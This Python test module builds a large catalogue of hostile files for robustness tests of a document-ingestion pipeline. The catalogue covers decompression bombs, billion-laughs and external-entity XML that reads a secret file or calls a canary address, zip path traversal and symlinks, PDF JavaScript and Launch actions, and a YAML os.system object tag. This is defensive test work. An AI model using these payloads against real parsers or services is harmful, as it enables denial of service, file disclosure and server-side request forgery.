"""Files made to break whoever opens them: small to make, large to read. All are made by code, when a test wants them.

A bomb has a name, a maker, and a name of a file where the kind goes by it. `{canary}` in a maker's address stands for
a listener that nothing must reach, `{secret}` for a file whose words must not come out.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import brotli
from backports import zstd

from tests.formats import (
    FIRST,
    SECOND,
    change_zip,
    make_docx,
    make_feed,
    make_mail,
    make_page,
    make_pdf,
    make_record,
    make_wacz,
    make_warc,
    write_pdf,
)

MIB = 1024 * 1024
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@dataclass(frozen=True)
class Lure:
    """Where hostile files point: an address that nobody must call, a file that nobody must read."""

    canary: str
    secret: str


@dataclass(frozen=True)
class Bomb:
    """One bomb; `file_name` only where the kind goes by it."""

    name: str
    make: Callable[[Lure], bytes]
    file_name: str | None = None


def _page(body: str, head: str = "") -> bytes:
    return f"<!DOCTYPE html><html><head><title>x</title>{head}</head><body><p>{FIRST}</p>{body}</body></html>".encode()


def _laughs(element: str, levels: int = 10, width: int = 10) -> str:
    lines = [f'<!ENTITY a0 "{"ha" * 10}">']
    lines += [f'<!ENTITY a{level} "{f"&a{level - 1};" * width}">' for level in range(1, levels)]
    return f"<!DOCTYPE {element} [{''.join(lines)}]>"


def _png(width: int, height: int) -> str:
    import base64

    body = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    chunk = struct.pack(">I", len(body)) + b"IHDR" + body + struct.pack(">I", zlib.crc32(b"IHDR" + body))
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + chunk).decode()


PAGES = {
    "nested 200,000 deep": lambda _: _page("<div>" * 200_000 + SECOND),
    "200,000 attributes": lambda _: _page(f"<p {' '.join(f'a{n}=1' for n in range(200_000))}>{SECOND}</p>"),
    "a million entities": lambda _: _page("<p>" + "&amp;" * 1_000_000),
    "a million numeric entities": lambda _: _page("<p>" + "&#x41;" * 1_000_000),
    "billion laughs in XHTML": lambda _: (
        '<?xml version="1.0"?>' + _laughs("html") + f"<html><body><p>{FIRST}</p><p>&a9;</p></body></html>"
    ).encode(),
    "colspan 9e15": lambda _: _page(
        f"<table><tr><td colspan=9000000000000000>{SECOND}<td rowspan=9000000000000000>x</table>"
    ),
    "10,000 cells that span 10,000 each": lambda _: _page("<table>" + "<tr><td colspan=10000 rowspan=10000>x" * 10_000),
    "a pixel flood": lambda _: _page(f"<img src='data:image/png;base64,{_png(2**31 - 1, 2**31 - 1)}'>" * 100),
    "a data address of 20 MB": lambda _: _page("<img src='data:image/png;base64," + "A" * 20 * MIB + "'>"),
    "one word of 10 MB": lambda _: _page("<p>" + "x" * 10 * MIB),
    "5 MB of opening brackets": lambda _: _page("<" * 5 * MIB),
    "a comment that never ends": lambda _: _page("<!--" + "-" * 5 * MIB),
    "a script that never ends": lambda _: _page("<script>" + "</scrip" * MIB),
    "a million paragraphs": lambda _: _page("<p>x" * 1_000_000),
    "50,000 nested tables": lambda _: _page("<table><tr><td>" * 50_000),
    "misnested formatting": lambda _: _page("<b><i><a href=x><p>" * 5_000 + "</b></i></a>" * 5_000),
    "200,000 options": lambda _: _page("<select>" + "<option>x" * 200_000),
    "SVG and MathML in each other": lambda _: _page("<svg><foreignObject><math><annotation-xml>" * 20_000),
    "5 MB of zeros": lambda _: _page("\x00" * 5 * MIB),
    "an encoding that there is not": lambda _: _page("x", head="<meta charset=x-hostile>" * 10_000),
    "an encoding that is no text's": lambda _: _page("x", head="<meta charset=zlib_codec>"),
    "a page that says UTF-16": lambda _: _page("\u0100" * 100_000, head="<meta charset=utf-16>"),
    "styles of a megabyte": lambda _: _page(f"<p style='{'display:none;' * 80_000}'>x</p>" * 5),
    "nested JSON-LD": lambda _: _page("x", head="<script type=application/ld+json>" + "[" * 500_000),
    "a JSON-LD number of a megabyte": lambda _: _page(
        "x", head="<script type=application/ld+json>{'datePublished':" + "9" * MIB + "}</script>".replace("'", '"')
    ),
    "dates made for patterns": lambda _: _page("<time datetime='" + "2031-" * 200_000 + "'>" + "1/1/1/" * 200_000),
    "a title of a megabyte": lambda _: _page("x", head="<title>" + "a " * MIB),
    "200,000 links": lambda _: _page("<a href='/x'>x</a> " * 200_000),
    "control and direction characters": lambda _: _page("\u202e\u2066\u200f\x1b[2J\x07" * 200_000),
    "a million accents on a letter": lambda _: _page("<p>a" + "\u0301" * 1_000_000),
    "framesets in a row": lambda _: _page("<frameset><frame src='#'>" * 100_000),
    "meta refresh and base to the inside": lambda lure: _page(
        f"<iframe src='{lure.canary}'></iframe><img src='{lure.canary}'><link rel=stylesheet href='{lure.canary}'>",
        head=f"<base href='{lure.secret}'><meta http-equiv=refresh content='0;url={lure.canary}'>",
    ),
    "external entities": lambda lure: (
        f"<!DOCTYPE html [<!ENTITY a SYSTEM '{lure.secret}'><!ENTITY b SYSTEM '{lure.canary}'>]>"
        f"<html><body><p>{FIRST}</p><p>&a; &b;</p></body></html>"
    ).encode(),
    "an external document type": lambda lure: (
        f"<!DOCTYPE html SYSTEM '{lure.canary}'><html><body><p>{FIRST}</p></body></html>"
    ).encode(),
    "an inclusion": lambda lure: _page(
        f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{lure.secret}' parse='text'/>"
    ),
}

TEXTS = {
    "one letter two million times": "a" * 2_000_000,
    "100,000 quotations that never close": "“" * 100_000,
    "nested brackets": "(" * 200_000 + ")" * 200_000,
    "a number of a million digits": "9" * 1_000_000 + " people were killed.",
    "number words": "hundred thousand and " * 50_000,
    "dates": "on 12 March 2031, last Tuesday, " * 30_000,
    "datelines": "NORVIK (Ostrel Wire) – " * 50_000,
    "datelines that do not end": "NORVIK, TAMSIN, " * 100_000,
    "furniture": "READ MORE: Also read: Share this: " * 40_000,
    "bylines": "By Aa, Bb and Cc, " * 60_000,
    "the dead": "killed " * 100_000,
    "speech": "said that " * 100_000,
    "white space": " \t\u00a0" * 600_000 + "x",
    "abbreviations": "a.b.c. " * 200_000,
    "names": "Mr. Tal al-Tal bin Tal " * 50_000,
    "commas": "a, " * 400_000,
    "direction and control characters": "\u202e\u2067\x1b[31m\x00\x07 killed " * 50_000,
    "a million lines": "x\n" * 1_000_000,
    "dashes": "– - — " * 200_000,
    "apostrophes": "'s’s " * 200_000,
}

MARKDOWN = {
    "nested quotations": ">" * 200_000 + " x",
    "nested lists": "".join(" " * (2 * depth) + "- x\n" for depth in range(1_500)),
    "open brackets": "[" * 100_000,
    "links in links": "[a](" * 50_000,
    "back ticks": "".join("`" * count + " " for count in range(1_500)),
    "emphasis": "*a **a " * 60_000,
    "references": "".join(f"[r{number}]: /x\n" for number in range(50_000)) + "[r1]" * 50_000,
    "a wide table": "|" + "a|" * 5_000 + "\n|" + "-|" * 5_000 + "\n" + ("|" + "b|" * 5_000 + "\n") * 20,
    "YAML that multiplies": "---\na: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9))
    + "---\nNine killed.\n",
    "YAML that makes objects": "---\na: !!python/object/apply:os.system ['true']\n---\nNine killed.\n",
    "markup within": "<div>" * 20_000 + "\n\nNine killed.\n",
}


def _flate_pdf(stream: bytes, filters: str = "/FlateDecode") -> bytes:
    return _content_pdf(b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(stream), filters.encode(), stream))


_FONTS = "/Resources << /Font << /F1 5 0 R >> >>"


def _content_pdf(content: bytes, *, page: str = "", extra: list[bytes] | None = None, catalog: str = "") -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog.encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {page or _FONTS} >>").encode(),
        content,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(extra or []),
    ]
    return write_pdf(objects, root=1)


def _stream(words: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(words), words)


def _zeros(mib: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(bytes(MIB)) for _ in range(mib)), packer.flush()])


def _loop_of_tables() -> bytes:
    pdf = make_pdf([[FIRST]])
    place = pdf.rindex(b"xref\n0")
    return pdf.replace(b"<< /Size", b"<< /Prev %d /Size" % place)


_FORM = (
    b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >> /Length 11 >>\n"
    b"stream\n/X Do /X Do\nendstream"
)
_PICTURE = (
    b"<< /Type /XObject /Subtype /Image /Width 1000000000 /Height 1000000000 /ColorSpace /DeviceRGB "
    b"/BitsPerComponent 16 /Length 1 >>\nstream\n0\nendstream"
)

PDFS = {
    "a stream of a gigabyte": lambda _: _flate_pdf(_zeros(1024)),
    "a stream packed twice": lambda _: _flate_pdf(zlib.compress(_zeros(512)), "[/FlateDecode /FlateDecode]"),
    "a stream of operators": lambda _: _flate_pdf(
        zlib.compress(b"BT /F1 9 Tf " + b"(x) Tj 0 -9 Td " * 2_000_000 + b"ET")
    ),
    "filters one behind the other": lambda _: _flate_pdf(b"41" * 1000 + b">", "[" + "/ASCIIHexDecode " * 1_000 + "]"),
    "a run of lengths": lambda _: _flate_pdf(b"\x81\x00" * 2_000_000 + b"\x80", "/RunLengthDecode"),
    "a tree of pages that holds itself": lambda _: write_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"], root=1
    ),
    "a tree of pages without end": lambda _: write_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>"]
        + [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1) for number in range(2, 50_000)],
        root=1,
    ),
    "a billion pages": lambda _: make_pdf([[FIRST]]).replace(b"/Count 1 ", b"/Count 999999999 "),
    "tables that point to each other": lambda _: _loop_of_tables(),
    "two billion objects": lambda _: make_pdf([[FIRST]]).replace(b"/Size 7", b"/Size 2147483647"),
    "a page as wide as the sky": lambda _: make_pdf([[FIRST]]).replace(b"[0 0 595 842]", b"[-1e38 -1e38 1e38 1e38]"),
    "a script at opening": lambda lure: make_pdf(
        [[FIRST]], catalog=f"/OpenAction << /S /JavaScript /JS (while(1)app.launchURL('{lure.canary}')) >>"
    ),
    "a program to launch": lambda lure: make_pdf(
        [[FIRST]],
        catalog=f"/OpenAction << /S /Launch /F ({lure.secret}) >> /AA << /O << /S /URI /URI ({lure.canary}) >> >>",
    ),
    "nested arrays": lambda _: _content_pdf(_stream(b"BT ET"), extra=[b"[" * 500_000]),
    "nested dictionaries": lambda _: _content_pdf(_stream(b"BT ET"), page="/X " + "<< /A " * 100_000),
    "nested states": lambda _: _content_pdf(_stream(b"q " * 2_000_000)),
    "a form that draws itself": lambda _: _content_pdf(
        _stream(b"/X Do"),
        page="/Resources << /XObject << /X 6 0 R >> >>",
        extra=[_FORM % 6],
    ),
    "forms that double": lambda _: _content_pdf(
        _stream(b"/X Do"),
        page="/Resources << /XObject << /X 6 0 R >> >>",
        extra=[_FORM % number for number in range(7, 40)],
    ),
    "a picture of a billion by a billion": lambda _: _content_pdf(
        _stream(b"/X Do"),
        page="/Resources << /XObject << /X 6 0 R >> >>",
        extra=[_PICTURE],
    ),
    "a page that needs a password": lambda _: make_pdf([[FIRST]]).replace(
        b"<< /Size", b"<< /Encrypt << /Filter /Standard /V 4 /R 4 /O (x) /U (x) /P -1 /Length 128 >> /Size"
    ),
    "cut in the middle": lambda _: make_pdf([[FIRST]] * 20)[:3_000],
    "a head and nothing": lambda _: b"%PDF-1.7\n" + b"\x00" * MIB,
}


def _document(body: str, before: str = "") -> bytes:
    xml = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return change_zip(make_docx([FIRST]), {"word/document.xml": xml.encode()})


def _p(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def _overlapping() -> bytes:
    plain = bytearray(make_docx([FIRST]))
    entries = [place for place in range(len(plain)) if plain.startswith(b"PK\x01\x02", place)]
    first = plain[entries[0] + 42 : entries[0] + 46]
    for place in entries[1:]:
        plain[place + 42 : place + 46] = first
    return bytes(plain)


def _zip_with(names: list[str], *, linked: bool = False, members: int = 0) -> bytes:
    out = io.BytesIO(make_docx([FIRST]))
    with zipfile.ZipFile(out, "a") as archive:
        for name in names:
            info = zipfile.ZipInfo(name)
            if linked:
                info.external_attr = 0o120777 << 16
            archive.writestr(info, "../../../../tmp/x")
        for number in range(members):
            archive.writestr(f"word/x{number}", "")
    return out.getvalue()


def _flagged() -> bytes:
    plain = bytearray(make_docx([FIRST]))
    for place in range(len(plain)):
        if plain.startswith(b"PK\x01\x02", place):
            plain[place + 8] |= 1
    return bytes(plain)


def _big_member(name: str, mib: int) -> bytes:
    out = io.BytesIO(make_docx([FIRST]))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as member:
        for _ in range(mib):
            member.write(bytes(MIB))
    return out.getvalue()


def _small_size() -> bytes:
    plain = bytearray(_big_member("word/media/x.bin", 300))
    place = plain.rindex(b"PK\x01\x02")
    plain[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(plain)


def _template(lure: Lure) -> bytes:
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId99" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/attachedTemplate" Target="{lure.canary}"/></Relationships>'
    )
    return change_zip(make_docx([FIRST]), {"word/_rels/settings.xml.rels": relations.encode()})


DOCUMENTS = {
    "a part of a gigabyte": lambda _: _big_member("word/media/x.bin", 1024),
    "a part that says it is small": lambda _: _small_size(),
    "billion laughs": lambda _: _document(_p("&a9;"), _laughs("w:document")),
    "an entity of a megabyte, a thousand times": lambda _: _document(
        _p("&a;" * 1_000), f'<!DOCTYPE w:document [<!ENTITY a "{"x" * MIB}">]>'
    ),
    "an external entity, a file": lambda lure: _document(
        _p("&a;" + FIRST), f'<!DOCTYPE w:document [<!ENTITY a SYSTEM "{lure.secret}">]>'
    ),
    "an external entity, an address": lambda lure: _document(
        _p("&a;" + FIRST), f'<!DOCTYPE w:document [<!ENTITY % a SYSTEM "{lure.canary}"> %a;]>'
    ),
    "a template elsewhere": _template,
    "a document in a document": lambda _: change_zip(
        make_docx([FIRST]), {"word/embeddings/a.docx": make_docx([SECOND]) * 100}
    ),
    "members over each other": lambda _: _overlapping(),
    "names that climb": lambda _: _zip_with(["../../../../tmp/evil", "word/../../evil"]),
    "names from the root": lambda _: _zip_with(["/etc/evil", "C:\\evil"]),
    "a link": lambda _: _zip_with(["word/link"], linked=True),
    "30,000 members": lambda _: _zip_with([], members=30_000),
    "nested 100,000 deep": lambda _: _document("<w:p><w:r>" * 100_000),
    "200,000 attributes": lambda _: _document(
        "<w:p " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>" + _p(FIRST)
    ),
    "a million paragraphs": lambda _: _document("<w:p/>" * 1_000_000 + _p(FIRST)),
    "encrypted members": lambda _: _flagged(),
    "a fallback that never ends": lambda _: _document(_p(FIRST) + "<w:p>&lt;mc:Fallback&gt;</w:p>" * 20_000),
}


def _nested_mail(depth: int) -> bytes:
    lines = [b"MIME-Version: 1.0", b"Message-ID: <x>"]
    for level in range(depth):
        lines += [b"Content-Type: multipart/mixed; boundary=b%d" % level, b"", b"--b%d" % level]
    return b"\r\n".join([*lines, b"", FIRST.encode()])


def _mail_head(*lines: str) -> bytes:
    return "\r\n".join(["Message-ID: <x>", "MIME-Version: 1.0", *lines, "", FIRST]).encode()


MAILS = {
    "100,000 nested parts": lambda _: _nested_mail(100_000),
    "2,000 nested parts": lambda _: _nested_mail(2_000),
    "100,000 parts side by side": lambda _: (
        _mail_head("Content-Type: multipart/mixed; boundary=b") + b"\r\n--b\r\n\r\nx" * 100_000
    ),
    "nested mails": lambda _: (
        _mail_head().replace(FIRST.encode(), b"") + b"Content-Type: message/rfc822\r\n\r\n" * 20_000
    ),
    "500,000 lines of head": lambda _: _mail_head(*["X-A: b"] * 500_000),
    "a subject of 10 MB": lambda _: _mail_head("Subject: " + "x" * 10 * MIB),
    "100,000 encoded words": lambda _: _mail_head("Subject: " + "=?utf-8?q?x?= " * 100_000),
    "an address list of a million": lambda _: _mail_head("From: " + "a@b.example, " * 1_000_000),
    "comments in comments": lambda _: _mail_head("From: " + "(" * 500_000),
    "an encoding that there is not": lambda _: _mail_head("Content-Type: text/plain; charset=x-hostile"),
    "an encoding that is no text's": lambda _: _mail_head("Content-Type: text/plain; charset=zlib_codec"),
    "base 64 that is none": lambda _: _mail_head("Content-Transfer-Encoding: base64"),
    "quoted-printable without end": lambda _: (
        _mail_head("Content-Transfer-Encoding: quoted-printable") + b"=\r\n" * MIB
    ),
    "a boundary of a megabyte": lambda _: _mail_head(f"Content-Type: multipart/mixed; boundary={'b' * MIB}"),
    "a date made for patterns": lambda _: _mail_head("Date: " + "Wed, 12 Mar 2031 " * 100_000),
    "a date of the year 99999": lambda _: _mail_head("Date: Wed, 12 Mar 99999 99:99:99 +9999"),
    "a million quoted lines": lambda _: make_mail(FIRST + "\n" + "> x\n" * 1_000_000),
    "a name of a file that climbs": lambda _: make_mail(FIRST, attached=["../../../../etc/passwd", "\u202egpj.exe"]),
    "parameters without end": lambda _: _mail_head("Content-Type: text/plain" + "; a*0=x" * 100_000),
}


def _record(body: bytes, encoding: str) -> bytes:
    return make_record(body, headers=f"Content-Encoding: {encoding}\r\n")


_GOOD = make_record(make_page(), url="https://harbour.example/good")


def _packed_zstd(mib: int) -> bytes:
    packer = zstd.ZstdCompressor()
    return b"".join([*(packer.compress(bytes(MIB)) for _ in range(mib)), packer.flush()])


def _packed_brotli(mib: int) -> bytes:
    packer = brotli.Compressor(quality=5)
    return b"".join([*(packer.process(bytes(MIB)) for _ in range(mib)), packer.finish()])


def _gzipped_zeros(mib: int, before: bytes = b"") -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    return b"".join([packer.compress(before), *(packer.compress(bytes(MIB)) for _ in range(mib)), packer.flush()])


_HEAD = b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://b.example/\r\nContent-Length: "

ARCHIVES = {
    "a record of four gigabytes": lambda _: _gzipped_zeros(4096, _HEAD + b"4294967296\r\n\r\n") + make_warc([_GOOD]),
    "a member that goes on behind its record": lambda _: _gzipped_zeros(1024, _GOOD) + make_warc([_GOOD]),
    "a length of 2^60": lambda _: make_warc([make_record(b"x", length=1 << 60), _GOOD]),
    "a length below zero": lambda _: make_warc([make_record(b"x", length=-5), _GOOD]),
    "a length that is too short": lambda _: make_warc([make_record(b"x" * 1000, length=90), _GOOD]),
    "a length that is too long": lambda _: make_warc([make_record(b"x" * 1000, length=900_000), _GOOD]),
    "lengths that lie, unpacked": lambda _: make_warc([make_record(b"x", length=1 << 62), _GOOD], packed=False),
    "chunks without end": lambda _: make_warc(
        [make_record(b"ffffffff\r\nx", headers="Transfer-Encoding: chunked\r\n"), _GOOD]
    ),
    "chunks of one byte": lambda _: make_warc(
        [make_record(b"1\r\nx\r\n" * 500_000 + b"0\r\n\r\n", headers="Transfer-Encoding: chunked\r\n"), _GOOD]
    ),
    "a body of a gigabyte, gzip": lambda _: make_warc([_record(_gzipped_zeros(1024), "gzip"), _GOOD]),
    "a body of a gigabyte, brotli": lambda _: make_warc([_record(_packed_brotli(1024), "br"), _GOOD]),
    "a body of a gigabyte, zstd": lambda _: make_warc([_record(_packed_zstd(1024), "zstd"), _GOOD]),
    "a body packed three times": lambda _: make_warc(
        [_record(gzip.compress(gzip.compress(_gzipped_zeros(1024))), "gzip, gzip, gzip"), _GOOD]
    ),
    "a header of 10 MB": lambda _: make_warc(
        [_HEAD[:-16] + b"X-A: " + b"x" * 10 * MIB + b"\r\nContent-Length: 1\r\n\r\nx\r\n\r\n", _GOOD]
    ),
    "500,000 headers of an answer": lambda _: make_warc(
        [make_record(make_page(), headers="X-A: b\r\n" * 500_000), _GOOD]
    ),
    "100,000 empty members": lambda _: gzip.compress(b"", mtime=0) * 100_000 + make_warc([_GOOD]),
    "100,000 damaged members": lambda _: b"\x1f\x8b\x08\x00xxxxxxxx" * 100_000 + make_warc([_GOOD]),
    "records without a head": lambda _: make_warc([b"WARC/1.0\r\n\r\n\r\n\r\n"] * 1_000 + [_GOOD]),
    "an address that climbs": lambda _: make_warc([make_record(make_page(), url="file:///etc/passwd"), _GOOD]),
    "a list of a gigabyte": lambda _: _wacz_bomb(),
    "names that climb out of a WACZ": lambda _: _renamed(
        make_wacz({"a.warc": _GOOD}), b"archive/a.warc", b"archive/../a.c"
    ),
    "members over each other in a WACZ": lambda _: _overlapping_wacz(),
    "nested lists in a WACZ": lambda _: _wacz_list(b'{"resources": ' + b"[" * 200_000),
}


def _wacz_list(words: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/a.warc", _GOOD)
        archive.writestr("datapackage.json", words)
    return out.getvalue()


def _wacz_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("archive/a.warc"), _GOOD)
        with archive.open("datapackage.json", "w") as member:
            for _ in range(1024):
                member.write(b" " * MIB)
    return out.getvalue()


def _renamed(payload: bytes, old: bytes, new: bytes) -> bytes:
    return payload.replace(old, new)


def _overlapping_wacz() -> bytes:
    plain = bytearray(make_wacz({"a.warc": _GOOD, "b.warc": _GOOD}))
    entries = [place for place in range(len(plain)) if plain.startswith(b"PK\x01\x02", place)]
    plain[entries[1] + 42 : entries[1] + 46] = plain[entries[0] + 42 : entries[0] + 46]
    return bytes(plain)


def _feed_with(before: str, words: str) -> bytes:
    return f'<?xml version="1.0"?>{before}{make_feed(FIRST).decode()[21:]}'.replace(
        "Shells", f"{words}Shells", 1
    ).encode()


FEEDS = {
    "billion laughs": lambda _: _feed_with(_laughs("rss"), "&a9;"),
    "an external entity, a file": lambda lure: _feed_with(
        f'<!DOCTYPE rss [<!ENTITY a SYSTEM "{lure.secret}">]>', "&a;"
    ),
    "an external entity, an address": lambda lure: _feed_with(
        f'<!DOCTYPE rss [<!ENTITY a SYSTEM "{lure.canary}">]>', "&a;"
    ),
    "an external document type": lambda lure: _feed_with(f'<!DOCTYPE rss SYSTEM "{lure.canary}">', ""),
    "a million entries": lambda _: make_feed(FIRST).replace(
        b"</channel>", b"<item><title>x</title></item>" * 1_000_000
    ),
    "nested 100,000 deep": lambda _: make_feed("x").replace(b"</channel>", b"<a>" * 100_000),
    "a million entities": lambda _: make_feed("&amp;" * 1_000_000),
    "an encoding that there is not": lambda _: make_feed(FIRST).replace(b'"1.0"?', b'"1.0" encoding="x-hostile"?'),
    "markup within, nested": lambda _: make_feed("<div>" * 50_000 + FIRST),
    "200,000 attributes": lambda _: make_feed(FIRST).replace(
        b"<channel>", b"<channel " + b" ".join(b"a%d='1'" % n for n in range(200_000)) + b">"
    ),
}

OTHERS = {
    "gzip of a gigabyte": lambda _: _gzipped_zeros(1024),
    "zip of a gigabyte": lambda _: _big_member("x", 1024).replace(b"word/document.xml", b"word/documenx.xml"),
}


def _texts(table: dict[str, str], kind: str, name: str | None) -> list[Bomb]:
    return [
        Bomb(f"{kind}: {each}", lambda _lure, words=words: words.encode("utf-8"), name)  # type: ignore[misc]
        for each, words in table.items()
    ]


BOMBS: tuple[Bomb, ...] = (
    *(Bomb(f"page: {name}", make) for name, make in PAGES.items()),
    *_texts(TEXTS, "text", "report.txt"),
    *_texts(MARKDOWN, "markdown", "report.md"),
    *(Bomb(f"pdf: {name}", make) for name, make in PDFS.items()),
    *(Bomb(f"docx: {name}", make) for name, make in DOCUMENTS.items()),
    *(Bomb(f"mail: {name}", make, "report.eml") for name, make in MAILS.items()),
    *(Bomb(f"archive: {name}", make) for name, make in ARCHIVES.items()),
    *(Bomb(f"feed: {name}", make) for name, make in FEEDS.items()),
    *(Bomb(f"other: {name}", make) for name, make in OTHERS.items()),
)
